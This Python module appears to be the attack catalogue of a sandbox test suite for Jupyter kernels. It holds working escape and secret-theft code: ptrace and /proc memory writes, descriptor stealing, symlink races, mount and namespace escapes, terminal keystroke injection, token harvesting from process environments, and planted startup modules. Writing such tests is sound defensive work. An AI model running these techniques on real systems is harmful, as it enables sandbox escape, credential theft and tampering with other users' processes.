"""What the attacks do. This text runs inside the kernels: nothing but the standard library, nothing of our package.

Each attack is an expression over these functions and the names in the `world` (see server_side.World.targets). It gives
evidence of its success, raises OSError, or gives something false when nothing was refused and nothing was won.
"""

# Attacks are neither safe nor tidy.
# ruff: noqa: S103, S306, S307, S310, SIM115, PERF203, PERF401

import ctypes
import errno
import fcntl
import glob
import json
import mmap
import os
import platform
import resource
import select
import shutil
import signal
import socket
import struct
import subprocess
import tempfile
import termios
import threading
import time
import urllib.request

MARK = "LEAK-"  # Every secret of the world starts with it.
ESCAPED = "ESCAPED"

libc = ctypes.CDLL(None, use_errno=True)
_ARM = platform.machine() == "aarch64"
_NUMBERS = {
    "add_key": (248, 217), "bpf": (321, 280), "clone": (56, 220), "clone3": (435, 435), "fanotify_init": (300, 262),
    "fsopen": (430, 430), "init_module": (175, 105), "io_uring_setup": (425, 425), "kcmp": (312, 272),
    "keyctl": (250, 219), "linkat": (265, 37), "mount": (165, 40), "name_to_handle_at": (303, 264),
    "open_by_handle_at": (304, 265), "open_tree": (428, 428), "perf_event_open": (298, 241), "pidfd_getfd": (438, 438),
    "pidfd_open": (434, 434), "pidfd_send_signal": (424, 424), "pivot_root": (155, 41), "prlimit64": (302, 261),
    "process_vm_readv": (310, 270), "process_vm_writev": (311, 271), "ptrace": (101, 117), "renameat2": (316, 276),
    "request_key": (249, 218), "setns": (308, 268), "syslog": (103, 116), "umount2": (166, 39), "unshare": (272, 97),
    "userfaultfd": (323, 282), "process_madvise": (440, 440), "chroot": (161, 51), "mq_open": (240, 180),
    "fchmodat2": (452, 452), "seccomp": (317, 277),
}  # fmt: skip
CLONE_NEWNS, CLONE_NEWUSER, CLONE_NEWPID = 0x00020000, 0x10000000, 0x20000000
MS_BIND = 4096
IPC_NOWAIT = 0o4000
AT_FDCWD = -100


def attempt(expression, world):
    """Evaluate one attack and return what came of it."""
    try:
        return (
            {"outcome": "works", "evidence": repr(evidence)}
            if (evidence := eval(expression, {**globals(), **world}))
            else {"outcome": "nothing"}
        )
    except OSError as error:
        return {"outcome": errno.errorcode.get(error.errno, type(error).__name__), "evidence": str(error)}


def syscall(name, *arguments):
    words = [ctypes.c_long(word) if isinstance(word, int) else word for word in arguments]
    return _checked(libc.syscall(ctypes.c_long(_NUMBERS[name][_ARM]), *words))


def _checked(result):
    if result == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def in_child(function):
    """Run a function in a fork, which it may ruin; its error is raised here."""
    reading, writing = os.pipe()
    child = os.fork()
    if child == 0:
        answer = {"errno": None, "evidence": None}
        try:
            answer["evidence"] = function()
        except OSError as error:
            answer["errno"] = error.errno
        finally:
            os.write(writing, json.dumps(answer).encode())
            os._exit(0)
    os.close(writing)
    with open(reading, "rb") as stream:
        text = stream.read()
    _, status = os.waitpid(child, 0)
    if not text:
        raise ProcessLookupError(errno.EOWNERDEAD, f"the child died of signal {os.WTERMSIG(status)}")
    answer = json.loads(text)
    if answer["errno"] is not None:
        raise OSError(answer["errno"], os.strerror(answer["errno"]))
    return answer["evidence"]


# Files.


def read(path, *, size=4096):
    with open(path, "rb") as stream:
        return stream.read(size).decode(errors="replace")


def write(path, text=ESCAPED):
    folder = os.path.dirname(os.path.abspath(path))
    if not os.path.isdir(folder):
        os.makedirs(folder)
    with open(path, "w") as stream:
        stream.write(text)
    return path


def open_for_writing(path):
    fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK | os.O_NOCTTY)
    os.close(fd)
    return path


def rewrite(path):
    """Write what stands there already: on a live machine nothing may change."""
    text = open(path).read()
    fd = os.open(path, os.O_WRONLY)
    try:
        os.write(fd, text.encode())
    finally:
        os.close(fd)
    return path


def through_link(path):
    link = tempfile.mktemp(dir=".")
    os.symlink(path, link)
    try:
        return read(link)
    finally:
        os.unlink(link)


def through_swapped_folder(folder, name):
    """Swap a folder for a link to the secret's folder all the while that it is opened."""
    os.makedirs("swap/harmless", exist_ok=True)
    open(f"swap/harmless/{name}", "w").close()
    os.symlink("harmless", "swap/way")
    done = threading.Event()

    def swap():
        while not done.is_set():
            for target in (folder, "harmless"):
                os.symlink(target, "swap/next")
                os.replace("swap/next", "swap/way")

    thread = threading.Thread(target=swap)
    thread.start()
    refused = None
    try:
        deadline = time.monotonic() + 0.5
        while time.monotonic() < deadline:
            try:
                if text := read(f"swap/way/{name}"):
                    return text
            except FileNotFoundError:
                pass
            except OSError as error:
                refused = error
    finally:
        done.set()
        thread.join()
        shutil.rmtree("swap")
    raise refused or OSError(errno.EAGAIN, "the race was never won")


def stolen(path, way):
    """Bring a file into the workspace by a function of two names, and read it there."""
    here = tempfile.mktemp(dir=os.getcwd())
    way(path, here)
    try:
        return read(here)
    finally:
        os.unlink(here)


def exchange(there, here):
    open(here, "w").close()
    try:
        return syscall("renameat2", AT_FDCWD, there.encode(), AT_FDCWD, here.encode(), 2)
    except OSError:
        os.unlink(here)
        raise


def link_by_descriptor(there, here):
    fd = os.open(there, os.O_PATH)
    try:
        return syscall("linkat", fd, b"", AT_FDCWD, here.encode(), 0x1000)
    finally:
        os.close(fd)


def link_through_proc(there, here):
    fd = os.open(there, os.O_PATH)
    try:
        syscall("linkat", AT_FDCWD, f"/proc/self/fd/{fd}".encode(), AT_FDCWD, here.encode(), 0x400)
    finally:
        os.close(fd)


def move_folder(folder):
    """Take a whole folder into the workspace."""
    here = tempfile.mktemp(dir=os.getcwd())
    os.rename(folder, here)
    found = os.listdir(here)
    os.rename(here, folder)
    return found


def reopened(path, mode=os.O_RDONLY):
    """Open by O_PATH, which is never refused, and again through /proc."""
    fd = os.open(path, os.O_PATH)
    try:
        return read(f"/proc/self/fd/{fd}") if mode == os.O_RDONLY else open_for_writing(f"/proc/self/fd/{fd}")
    finally:
        os.close(fd)


def from_inside(folder, name):
    """Change into a folder first, which is never refused."""

    def go():
        os.chdir(folder)
        return read(name)

    return in_child(go)


def by_handle(path):
    """Open by file handle, past all folders."""
    handle, mount = ctypes.create_string_buffer(8 + 128), ctypes.c_int()
    struct.pack_into("I", handle, 0, 128)
    syscall("name_to_handle_at", AT_FDCWD, path.encode(), handle, ctypes.byref(mount), 0)
    root = os.open(".", os.O_RDONLY)
    try:
        fd = syscall("open_by_handle_at", root, handle, os.O_RDONLY)
        return read(fd)
    finally:
        os.close(root)


def open_descriptors():
    """Look for secrets behind the descriptors that this kernel was started with."""
    found = []
    for name in os.listdir("/proc/self/fd"):
        try:
            if MARK.encode() in os.pread(int(name), 4096, 0):
                found.append(os.readlink(f"/proc/self/fd/{name}"))
        except OSError:
            continue
    return found


def make_node(kind, device):
    path = tempfile.mktemp(dir=os.getcwd())
    os.mknod(path, 0o600 | kind, device)
    os.unlink(path)
    return path


def make_socket(path):
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(path)
    return path


def bind_mount(folder, name):
    os.makedirs("mount", exist_ok=True)

    def go():
        syscall("unshare", CLONE_NEWNS)
        syscall("mount", b"none", b"/", None, 0x40000 | 16384, None)
        syscall("mount", folder.encode(), b"mount", None, MS_BIND, None)
        return read(f"mount/{name}")

    return in_child(go)


def bind_mount_in_user_namespace(folder, name):
    os.makedirs("mount", exist_ok=True)

    def go():
        syscall("unshare", CLONE_NEWUSER | CLONE_NEWNS)
        syscall("mount", folder.encode(), b"mount", None, MS_BIND, None)
        return read(f"mount/{name}")

    return in_child(go)


def mount_once():
    """The call alone, so that nothing stands before it."""
    os.makedirs("mount", exist_ok=True)
    syscall("mount", b"tmpfs", b"mount", b"tmpfs", 0, None)
    syscall("umount2", b"mount", 0)
    return "mounted"


def clone_mount(folder):
    return os.close(syscall("open_tree", AT_FDCWD, folder.encode(), 1)) or "cloned"


def new_root(folder, name):
    def go():
        os.chroot(folder)
        return read(f"/{name}")

    return in_child(go)


def run_program(path):
    return subprocess.run([path], capture_output=True, text=True, check=True).stdout


def from_memory(*arguments):
    """Run a copy of a program from anonymous memory, which lies beneath no path."""
    fd = os.memfd_create("program")
    with open(shutil.which(arguments[0]), "rb") as program:
        os.write(fd, program.read())
    done = subprocess.run([f"/proc/self/fd/{fd}", *arguments[1:]], pass_fds=[fd], capture_output=True, text=True)
    os.close(fd)
    if "Permission denied" in done.stderr:
        raise PermissionError(errno.EACCES, done.stderr)
    return done.stdout


def dump_core(limit=resource.RLIM_INFINITY):
    """Set the limit, so that a crash would hand the memory to whatever core_pattern names: 1 alone would not."""
    before = resource.getrlimit(resource.RLIMIT_CORE)
    if before[1] == limit:
        return "unlimited"
    try:
        # The limit that counts, below the hard one where that suffices: it could not be raised again.
        resource.setrlimit(resource.RLIMIT_CORE, (limit, limit if limit == resource.RLIM_INFINITY else before[1]))
    except ValueError as error:
        raise PermissionError(errno.EPERM, str(error)) from None
    if resource.getrlimit(resource.RLIMIT_CORE)[0] != limit:
        raise PermissionError(errno.EPERM, "the limit is as it was, whatever the call said")
    resource.setrlimit(resource.RLIMIT_CORE, before)
    return "set"


# Processes.


def attach(pid):
    def go():
        syscall("ptrace", 16, pid, 0, 0)
        os.waitpid(pid, 0x40000000)
        syscall("ptrace", 17, pid, 0, 0)
        return "attached"

    return in_child(go)


def seize(pid):
    def go():
        syscall("ptrace", 0x4206, pid, 0, 0)
        return "seized"

    return in_child(go)


def memory(pid, address, size):
    with open(f"/proc/{pid}/mem", "rb", 0) as stream:
        stream.seek(address)
        return stream.read(size).decode()


def change_memory(pid, address, text=ESCAPED):
    with open(f"/proc/{pid}/mem", "r+b", 0) as stream:
        stream.seek(address)
        return stream.write(text.encode())


class _Piece(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("size", ctypes.c_size_t))


def across(name, pid, address, size):
    """process_vm_readv and process_vm_writev."""
    buffer = ctypes.create_string_buffer(b"X" * size if name == "process_vm_writev" else size)
    here, there = _Piece(ctypes.addressof(buffer), size), _Piece(address, size)
    syscall(name, pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
    return buffer.value.decode()


def taken_descriptor(pid, fd):
    process = syscall("pidfd_open", pid, 0)
    try:
        taken = syscall("pidfd_getfd", process, fd, 0)
        return os.pread(taken, 100, 0).decode()
    finally:
        os.close(process)


def send(pid, number):
    os.kill(pid, number)
    return "sent"


def send_by_pidfd(pid, number):
    process = syscall("pidfd_open", pid, 0)
    try:
        syscall("pidfd_send_signal", process, number, None, 0)
    finally:
        os.close(process)
    return "sent"


def send_by_owner(pid, number):
    """Let the kernel send it, as the owner of a descriptor to which data comes. It is refused in silence."""
    near, far = socket.socketpair()
    with near, far:
        fcntl.fcntl(near, fcntl.F_SETOWN, pid)
        fcntl.fcntl(near, 10, number)  # F_SETSIG
        fcntl.fcntl(near, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
        far.send(b"x")


def limit(pid):
    """Take away the right to open files."""
    soft, hard = resource.prlimit(pid, resource.RLIMIT_NOFILE)
    resource.prlimit(pid, resource.RLIMIT_NOFILE, (soft - 1, hard))
    return "limited"


def tunables():
    """Name the machine's settings in /proc that can be opened for writing, but for two kinds.

    /proc/pressure is no setting, and ns_last_pid is open to everybody and refuses at the write.
    """
    found = []
    for folder, folders, files in os.walk("/proc"):
        if folder == "/proc":
            folders[:] = [name for name in folders if not name.isdigit() and name not in ("self", "thread-self")]
        for name in files:
            path = os.path.join(folder, name)
            try:
                found.append(open_for_writing(path))
            except OSError:
                continue
    return [path for path in found if not path.startswith("/proc/pressure/") and not path.endswith("/ns_last_pid")]


def unconfined_threads():
    """Name threads without no_new_privs or, which only root has, with capabilities."""
    found = []
    for path in glob.glob("/proc/self/task/*/status"):
        status = dict(line.split(":\t", 1) for line in open(path).read().splitlines() if ":\t" in line)
        if (
            status["NoNewPrivs"] != "1"
            or int(status["CapEff"], 16)
            or int(status["CapPrm"], 16)
            or status["Seccomp"] != "2"
        ):
            found.append(path)
    return found


def capabilities(*sets):
    """Name sets of capabilities that are not empty, here and in a program that is run."""
    run = subprocess.run(["cat", "/proc/self/status"], capture_output=True, text=True).stdout
    own = open("/proc/self/status").read()
    return [line for line in (own + run).splitlines() if line.startswith(sets) and int(line.split()[1], 16)]


def identity_of(path):
    """Run a program that tells its effective user."""
    done = subprocess.run([path, "-u"], capture_output=True, text=True)
    return done.stdout.strip() != str(os.getuid()) and done.stdout.strip()


def become(identity):
    return in_child(lambda: os.setresuid(identity, identity, identity) or "became")


def unshare(flags):
    return in_child(lambda: syscall("unshare", flags) or "unshared")


def clone(flags):
    """The plain system call, as glibc's fork makes it, with flags of our own."""

    def go():
        child = syscall("clone", flags | signal.SIGCHLD, None, None, None, None)
        if child == 0:
            os._exit(0)
        os.waitpid(child, 0)
        return "cloned"

    return in_child(go)


def clone3(flags):
    def go():
        arguments = struct.pack("11Q", flags, 0, 0, 0, signal.SIGCHLD, 0, 0, 0, 0, 0, 0)
        child = syscall("clone3", arguments, len(arguments))
        if child == 0:
            os._exit(0)
        os.waitpid(child, 0)
        return "cloned"

    return in_child(go)


def enter_namespace(pid, name):
    def go():
        process = os.open(f"/proc/{pid}/ns/{name}", os.O_RDONLY)
        syscall("setns", process, 0)
        return "entered"

    return in_child(go)


def enter_by_pidfd(pid):
    def go():
        syscall("setns", syscall("pidfd_open", pid, 0), CLONE_NEWNS)
        return "entered"

    return in_child(go)


def io_uring():
    return os.close(syscall("io_uring_setup", 4, ctypes.create_string_buffer(120))) or "made"


def userfaultfd():
    return os.close(syscall("userfaultfd", 1)) or "made"


def bpf():
    return os.close(syscall("bpf", 0, struct.pack("IIIII", 2, 4, 4, 1, 0) + bytes(100), 120)) or "made"


def perf():
    attribute = struct.pack("IIQQQQQ", 1, 112, 0, 0, 0, 0, 1 << 5 | 1 << 6) + bytes(64)
    return os.close(syscall("perf_event_open", attribute, 0, -1, -1, 0)) or "made"


def key(number):
    """Read a key of the user's keyring, where the server put one."""
    syscall("keyctl", 8, -4, -2, 0, 0)  # KEYCTL_LINK: what is in the user's keyring is in the process's
    buffer = ctypes.create_string_buffer(100)
    syscall("keyctl", 11, number, buffer, 100, 0)
    return buffer.value.decode()


def add_key():
    return syscall("add_key", b"user", b"escape", b"x", 1, -2)


def request_key():
    syscall("keyctl", 8, -4, -2, 0, 0)
    return syscall("request_key", b"user", b"openshell-escapes", None, -2)


def typed(request=termios.TIOCSTI):
    """Put a character into the input of a terminal of our own, as if it had been typed."""
    parent, terminal = os.openpty()

    def go():
        os.setsid()
        _checked(libc.ioctl(terminal, ctypes.c_ulong(termios.TIOCSCTTY), ctypes.c_long(0)))
        _checked(libc.ioctl(terminal, ctypes.c_ulong(request), b"x"))
        return "typed"

    try:
        return in_child(go)
    finally:
        os.close(parent)
        os.close(terminal)


def typed_at(path):
    """The same in a terminal of another program, which takes a privilege."""

    def go():
        terminal = os.open(path, os.O_RDWR | os.O_NOCTTY)
        _checked(libc.ioctl(terminal, ctypes.c_ulong(termios.TIOCSTI), b"x"))
        return "typed"

    return in_child(go)


def controlling_terminal():
    fd = os.open("/dev/tty", os.O_RDWR)
    os.close(fd)
    return "/dev/tty"


def through_32_bit(number, *arguments):
    """Make a system call by the entry of 32-bit programs, whose numbers are others."""
    if platform.machine() != "x86_64":
        raise OSError(errno.ENOSYS, "there is no such entry on this machine")

    def go():
        page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        first = arguments[0] if arguments else 0
        # push rbx; mov eax, number; mov ebx, first; int 0x80; pop rbx; ret
        page.write(b"\x53\xb8" + struct.pack("<I", number) + b"\xbb" + struct.pack("<I", first) + b"\xcd\x80\x5b\xc3")
        call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
        result = call()
        if result < 0:
            raise OSError(-result, os.strerror(-result))
        return "called"

    return in_child(go)


def through_x32(name, *arguments):
    """The same by the numbers of the x32 kind of program."""
    return in_child(
        lambda: _checked(libc.syscall(ctypes.c_long(_NUMBERS[name][_ARM] | 0x40000000), *arguments)) or "called"
    )


def same_hostname():
    """Set the machine's name to what it is."""
    name = socket.gethostname()
    socket.sethostname(name)
    return name


def kernel_log():
    buffer = ctypes.create_string_buffer(1000)
    return syscall("syslog", 3, buffer, 1000) and buffer.value[:60].decode(errors="replace")


def set_uid_file():
    """Make a program that runs as this user, whoever starts it, and outside of the sandbox."""
    path = tempfile.mktemp(dir=os.getcwd())
    shutil.copyfile("/bin/true", path)
    try:
        os.chmod(path, 0o4755)
        return oct(os.stat(path).st_mode)
    finally:
        os.unlink(path)


def fanotify():
    return os.close(syscall("fanotify_init", 4, os.O_RDONLY)) or "made"


def special_socket(family, kind=socket.SOCK_STREAM, protocol=0):
    with socket.socket(family, kind, protocol):
        return "made"


# Jupyter.


def secrets_in_environment():
    """Look for the server's secrets in this kernel's environment, as it is and as it was started."""
    return [name for name, value in os.environ.items() if MARK in value] or MARK in read(
        "/proc/self/environ", size=1 << 20
    )


def secrets_of_processes(name):
    """Look for secrets in what other processes were started with."""
    found, refused = [], None
    for path in glob.glob(f"/proc/[0-9]*/{name}"):
        try:
            if MARK in read(path, size=1 << 20):
                found.append(path)
        except OSError as error:
            refused = error
    if not found and refused and refused.errno != errno.ESRCH:
        raise refused
    return found


def secrets_in_files(folder):
    """Look for secrets in the files of a folder and beneath it."""
    found = []
    for path in [os.path.join(folder, name) for name in os.listdir(folder)]:
        if os.path.isfile(path) and MARK in read(path):
            found.append(path)
    return found


def start_unconfined(url, runtime):
    """Start a plain kernel with any token that can be found."""
    tokens = {""}
    sources = [*glob.glob("/proc/[0-9]*/environ"), *glob.glob("/proc/[0-9]*/cmdline"), *glob.glob(f"{runtime}/*")]
    for path in sources:
        try:
            text = read(path, size=1 << 20)
        except OSError:
            continue
        for piece in text.split(MARK)[1:]:
            word = "".join(c if c.isalnum() or c in "-_" else " " for c in piece).split()
            tokens.add(MARK + word[0] if word else "")
    status = None
    for token in sorted(tokens):
        request = urllib.request.Request(
            f"{url}api/kernels", b'{"name": "python3"}', {"Authorization": f"token {token}"}
        )
        try:
            with urllib.request.urlopen(request, timeout=20) as answer:
                started = json.load(answer)["id"]
        except urllib.error.HTTPError as error:
            status = error
            continue
        again = urllib.request.Request(
            f"{url}api/kernels/{started}", None, {"Authorization": f"token {token}"}, method="DELETE"
        )
        urllib.request.urlopen(again, timeout=20).close()
        return started
    raise PermissionError(errno.EACCES, str(status))


def overheard():
    """Subscribe to another kernel's output, which asks for no key, and wait for its next word."""
    import zmq  # noqa: PLC0415 - only this attack needs it, and what is loaded here is part of each

    ends = {line.split()[-1] for line in open("/proc/net/unix") if "/openshell-" in line and "k-" in line}
    ends = sorted(end for end in ends if end.startswith("/"))
    context = zmq.Context()
    poller = zmq.Poller()
    sockets = []
    for end in ends:
        listener = context.socket(zmq.SUB)
        listener.linger = 0
        listener.subscribe(b"")
        listener.connect(f"ipc://{end}")
        poller.register(listener, zmq.POLLIN)
        sockets.append(listener)
    try:
        deadline = time.monotonic() + 2
        while time.monotonic() < deadline:
            for listener, _ in poller.poll(200):
                message = b" ".join(listener.recv_multipart())
                if MARK.encode() in message:
                    return message[-80:]
        return None
    finally:
        for listener in sockets:
            listener.close()
        context.term()


def change_record():
    """Rewrite what `%policy show` reads."""
    fd = int(os.environ["OPENSHELL_SNAPSHOT_FD"])
    return os.pwrite(os.open(f"/proc/self/fd/{fd}", os.O_RDWR), b"{}", 0)


def leave_modules(marker):
    """Leave modules in the workspace, with the names of what a kernel imports as it starts."""
    code = f"try:\n    open({marker!r}, 'w').close()\nexcept OSError:\n    pass\nimport sys; del sys.modules[__name__]\nraise ImportError\n"
    for name in (
        "ipykernel_launcher",
        "sitecustomize",
        "usercustomize",
        "conftest",
        "json",
        "landlock",
        "openshell_kernel",
    ):
        write(os.path.join(os.getcwd(), f"{name}.py"), code)


def leave_startup(marker):
    """Leave a startup file where this kernel's IPython looks for it."""
    folder = os.path.join(get_ipython().profile_dir.startup_dir)  # noqa: F821 - the kernel's
    write(os.path.join(folder, "50-x.py"), f"open({marker!r}, 'w').close()")


# What is owned up to.


def leave_link(path):
    """Put a link into the workspace for a program outside to follow; tests/kernels/test_runners.py has one that does."""
    os.symlink(path, "link")
    os.replace("link", "result.ipynb")
    return os.readlink("result.ipynb")


def change_mode(path, mode):
    os.chmod(path, mode)
    return oct(os.stat(path).st_mode)


def back_date(path):
    os.utime(path, (1, 1))
    return os.stat(path).st_mtime


def mark_file(path):
    os.setxattr(path, "user.escape", b"x")
    return os.getxattr(path, "user.escape")


def watch(path):
    fd = _checked(libc.inotify_init1(os.O_CLOEXEC))
    try:
        _checked(libc.inotify_add_watch(fd, path.encode(), 0x20 | 0x1))
        return "watching"
    finally:
        os.close(fd)


def ask(family, address):
    """Connect to what another program offers, and take what it says."""
    with socket.socket(family) as client:
        client.settimeout(5)
        client.connect(address)
        return client.recv(100).decode()


def send_datagram(port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        return client.sendto(b"x", ("127.0.0.1", port))


def over_mptcp(port):
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) as client:
        client.settimeout(5)
        client.connect(("127.0.0.1", port))
        return client.recv(100).decode()


def over_fast_open(port):
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as client:
        client.sendto(b"x", 0x20000000, ("127.0.0.1", port))
        return client.recv(100).decode()


def typed_by_the_user():
    """Read what is typed into a terminal that this kernel was started with."""
    terminals = [fd for fd in map(int, os.listdir("/proc/self/fd")) if os.isatty(fd)]
    ready, _, _ = select.select(terminals, [], [], 2)
    return ready and os.read(ready[0], 100).decode()


def terminal_output(path):
    fd = os.open(path, os.O_WRONLY | os.O_NOCTTY)
    try:
        return os.write(fd, b"ESCAPED")
    finally:
        os.close(fd)


def shared_segment(number):
    libc.shmat.restype = ctypes.c_void_p
    address = libc.shmat(number, None, 0)
    if address == ctypes.c_void_p(-1).value:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    text = ctypes.string_at(address)
    libc.shmdt(ctypes.c_void_p(address))
    return text


def message_queue(name):
    fd = syscall("mq_open", name.strip("/").encode(), os.O_RDONLY | os.O_NONBLOCK, 0, None)
    os.close(fd)
    return name


def received_message(number):
    """Take the first message of a System V queue."""
    message = ctypes.create_string_buffer(4096)
    size = _checked(libc.msgrcv(number, message, 4000, 0, IPC_NOWAIT))
    return message.raw[8 : 8 + size]


def send_message(number):
    text = ESCAPED.encode()
    return _checked(libc.msgsnd(number, struct.pack("l", 1) + text, len(text), IPC_NOWAIT)) or "sent"


def take_semaphore(number):
    return _checked(libc.semop(number, struct.pack("Hhh", 0, -1, IPC_NOWAIT), 1)) or "taken"


def renice(pid):
    os.setpriority(os.PRIO_PROCESS, pid, 5)
    return os.getpriority(os.PRIO_PROCESS, pid)


def fill_memory():
    """Take more than a kernel should, without touching it."""
    return len(mmap.mmap(-1, 1 << 32)) and resource.getrlimit(resource.RLIMIT_AS)[0] == resource.RLIM_INFINITY
